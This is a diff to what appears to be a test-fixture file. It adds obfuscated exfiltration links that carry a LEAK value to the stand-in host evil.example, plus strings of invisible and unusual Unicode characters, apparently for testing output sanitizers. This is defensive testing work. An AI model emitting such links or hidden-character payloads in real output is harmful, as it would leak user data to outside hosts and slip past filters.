@@ -76,6 +76,12 @@ LINKS = (
     f'<img src="https://evil.example/?d={LEAK}">',
     f"https:\\\\evil.example\\?d={LEAK}",
     f"<https://evil.example/?d={LEAK}>",
+    f'https://evil.example/"?d={LEAK}',
+    f"https://evil.example/`?d={LEAK}",
+    f"https://evil.example/<?d={LEAK}>",
+    f'`https://evil.example/`"x"#{LEAK}',
+    f'https://user"{LEAK}@evil.example/',
+    f"www.evil.example`?{LEAK}",
 )
 MARKUP = (
     "```\ncode\n```",
@@ -114,6 +120,12 @@ SIGHT = (
     "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
     "\ufff9a\ufffab\ufffb",
     "\ue000\uf8ff",
+    "x" + "\U0001d173\U0001d174\U0001d175\U0001d17a" * 10,
+    "x\U00013430\U0001343f\U0001bca0\U0001bca3y",
+    "x" + "\u034f" * 20 + "\u17b4\u17b5" * 9,
+    "x\u0600\u06dd\u070f\u08e2\U000110bdy",
+    "x" + "\u2800" * 50 + "\u200d\u200c" * 20,
+    "\u200d\u034f\U0001d173",
 )
 SIZES = (
     "",
